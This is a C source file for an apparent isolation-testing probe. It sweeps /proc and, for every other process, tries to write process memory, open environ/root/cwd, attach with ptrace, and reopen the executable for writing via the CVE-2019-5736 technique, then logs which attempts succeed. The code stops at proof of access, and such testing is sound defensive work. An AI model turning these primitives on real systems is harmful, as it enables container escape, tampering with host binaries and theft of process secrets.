/* See attack.h. */
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "attack.h"

#define PIDS_MAX 32768

static unsigned char seen[PIDS_MAX];
static FILE *report;

static void comm_of(int pid, char *out, size_t size)
{
	char path[64];
	ssize_t n = -1;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/comm", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd >= 0) {
		n = read(fd, out, size - 1);
		close(fd);
	}
	if (n <= 0) {
		snprintf(out, size, "?");
		return;
	}
	out[n] = '\0';
	for (char *p = out; *p; p++)
		if (!isalnum((unsigned char)*p) && !strchr("._-:", *p))
			*p = '_';
	if (out[n - 1] == '_')
		out[n - 1] = '\0';
}

/* A process that has become another program meanwhile (exec) is NEW-was-OLD. */
static void say(int pid, const char *comm, const char *what, int err)
{
	char now[64];

	comm_of(pid, now, sizeof(now));
	fprintf(report, "%d %s", pid, now);
	if (strcmp(now, comm) != 0)
		fprintf(report, "-was-%s", comm);
	if (err)
		fprintf(report, " %s %d\n", what, err);
	else
		fprintf(report, " %s ok\n", what);
	fflush(report);
}

static void try_open(int pid, const char *comm, const char *name, const char *what, int flags)
{
	char path[64];
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/%s", pid, name);
	fd = open(path, flags | O_CLOEXEC | O_NONBLOCK);
	say(pid, comm, what, fd < 0 ? errno : 0);
	if (fd >= 0)
		close(fd);
}

/* CVE-2019-5736: hold the executable read-only, then open it for writing when nobody runs it. */
static void try_exe(int pid, const char *comm)
{
	char path[64], again[64];
	int fd, wfd = -1;

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	fd = open(path, O_PATH | O_CLOEXEC);
	say(pid, comm, "exe-open", fd < 0 ? errno : 0);
	if (fd < 0)
		return;
	snprintf(again, sizeof(again), "/proc/self/fd/%d", fd);
	for (int i = 0; i < 200 && wfd < 0; i++) {
		wfd = open(again, O_WRONLY | O_CLOEXEC);
		if (wfd < 0 && errno != ETXTBSY)
			break;
		if (wfd < 0)
			nanosleep(&(struct timespec){.tv_nsec = 5000000}, NULL);
	}
	say(pid, comm, "exe-write", wfd < 0 ? errno : 0);
	if (wfd >= 0)
		close(wfd); /* proof enough: it may be a program of the host */
	close(fd);
}

static void try_ptrace(int pid, const char *comm)
{
	/* not PTRACE_ATTACH, whose SIGSTOP may stay behind and stop the victim for good */
	if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0) {
		say(pid, comm, "ptrace", errno);
		return;
	}
	say(pid, comm, "ptrace", 0);
	ptrace(PTRACE_INTERRUPT, pid, NULL, NULL);
	waitpid(pid, NULL, __WALL);
	ptrace(PTRACE_DETACH, pid, NULL, NULL);
}

static void attack_one(int pid)
{
	char comm[64];
	pid_t child;

	comm_of(pid, comm, sizeof(comm));
	child = fork();
	if (child > 0 && child < PIDS_MAX)
		seen[child] = 1; /* not each other */
	if (child != 0)
		return;
	try_open(pid, comm, "mem", "mem-write", O_RDWR);
	try_open(pid, comm, "environ", "environ", O_RDONLY);
	try_open(pid, comm, "root", "root", O_RDONLY | O_DIRECTORY);
	try_open(pid, comm, "cwd", "cwd", O_RDONLY | O_DIRECTORY);
	try_ptrace(pid, comm);
	try_exe(pid, comm);
	_exit(0);
}

static void sweep(DIR *proc, int self)
{
	struct dirent *d;
	int pid;

	rewinddir(proc);
	while ((d = readdir(proc))) {
		pid = atoi(d->d_name);
		if (pid <= 1 || pid >= PIDS_MAX || pid == self || seen[pid])
			continue;
		seen[pid] = 1;
		attack_one(pid);
	}
}

int attack(const char *file)
{
	DIR *proc = opendir("/proc");

	report = fopen(file, "we");
	if (!proc || !report) {
		perror("app: attack");
		return 1;
	}
	setvbuf(report, NULL, _IOLBF, 0);
	for (;;) {
		sweep(proc, getpid());
		while (waitpid(-1, NULL, WNOHANG) > 0)
			;
		nanosleep(&(struct timespec){.tv_nsec = 500000}, NULL);
	}
}
